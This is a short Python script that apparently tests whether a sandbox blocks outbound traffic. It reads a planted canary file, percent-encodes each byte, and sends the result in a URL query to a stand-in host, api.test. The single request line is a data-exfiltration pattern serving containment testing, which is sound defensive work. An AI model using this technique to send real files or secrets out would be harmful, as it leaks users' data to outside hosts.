# Sends what is in a planted file in percent signs, in the query.
# network: held
from prelude import TOLD, canary, get, say

print(say(get(f"http://api.test:{TOLD['WEB']}/?q={''.join(f'%{byte:02X}' for byte in canary())}"))[:100])
print("tried")
